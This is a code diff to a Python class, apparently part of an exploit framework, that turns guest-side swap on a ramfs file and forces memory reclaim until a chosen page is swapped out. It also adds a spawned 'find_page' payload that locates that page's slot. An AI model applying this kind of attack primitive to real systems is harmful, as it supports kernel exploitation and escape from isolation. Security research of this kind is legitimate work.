@@ -19,6 +19,7 @@ if TYPE_CHECKING:
 PAGE = 4096
 
 _FOLDER = "/tmp/swap"  # noqa: S108 - the guest's, not ours
+_FILE = f"{_FOLDER}/file"
 _LOOP_SET_FD = 0x4C00  # include/uapi/linux/loop.h
 _LOOP_CTL_GET_FREE = 0x4C82
 
@@ -33,6 +34,9 @@ _SWAPPED = 1 << 62
 _SLOT_SHIFT, _SLOT_MASK = 5, (1 << 50) - 1
 _ANONYMOUS = 1 << 12
 _SWAP_CACHE = 1 << 13
+
+_SLOT = 8
+"""The bytes of a slot's number, as find_page.c tells it."""
 
 _STEP = b"256K"
 _STEPS = 32
@@ -54,11 +58,10 @@ class SwapDevice:
     def __init__(self, attacker: Attacker, *, pages: int) -> None:
         """Make it and switch it on, as set-up."""
         self._attacker = attacker
-        self._pages = pages
         with attacker.setup():
             attacker.mkdir(_FOLDER)
             attacker.mount("none", _FOLDER, "ramfs")
-            self._file = attacker.open(f"{_FOLDER}/file", O_RDWR | O_CREAT, 0o600)
+            self._file = attacker.open(_FILE, O_RDWR | O_CREAT, 0o600)
             attacker.syscall("ftruncate", self._file.fd, pages * PAGE)
             self._file.pwrite(_HEADER.pack(1, pages - 1), _HEADER_AT)
             self._file.pwrite(_MAGIC, PAGE - len(_MAGIC))
@@ -89,24 +92,31 @@ class SwapDevice:
 
         return self._reclaim_until(slot)
 
-    def find(self, is_it: Callable[[bytes], bool]) -> int | None:
-        """The slot of the first page that is it; None if no such page was written out."""
-        for at in range(0, self._pages * PAGE, CHUNK):
-            data = self._file.pread(CHUNK, at)
-            for page in range(0, len(data), PAGE):
-                if is_it(data[page : page + PAGE]):
-                    return (at + page) // PAGE
-        return None
+    def finder(self, place: int, wanted: bytes) -> Callable[[], int]:
+        """Start what finds the first page with that in that place: its slot, -1 for none."""
+        attacker = self._attacker
+        path = attacker.payload("find_page")
+        with attacker.setup():
+            asked, ask = attacker.pipe()
+            answer, answered = attacker.pipe()
+            words = _FILE, str(place), wanted.hex()
+            attacker.spawn(path, *words, stdin=asked.fd, stdout=answered.fd)
 
-    def push_out(self, is_it: Callable[[bytes], bool]) -> int:
-        """Have memory written out until that page is on the device and nowhere else.
+        def find() -> int:
+            ask.write(b"?")
+            return int.from_bytes(answer.read(_SLOT), "little", signed=True)
+
+        return find
+
+    def push_out(self, find: Callable[[], int]) -> int:
+        """Have memory written out until what is found is on the device and nowhere else.
 
         Its slot. Raises StaysInMemory.
         """
 
         def slot() -> int | None:
-            found = self.find(is_it)
-            return None if found is None or _cached(self._attacker) else found
+            found = find()
+            return None if found < 0 or _cached(self._attacker) else found
 
         return self._reclaim_until(slot)
 
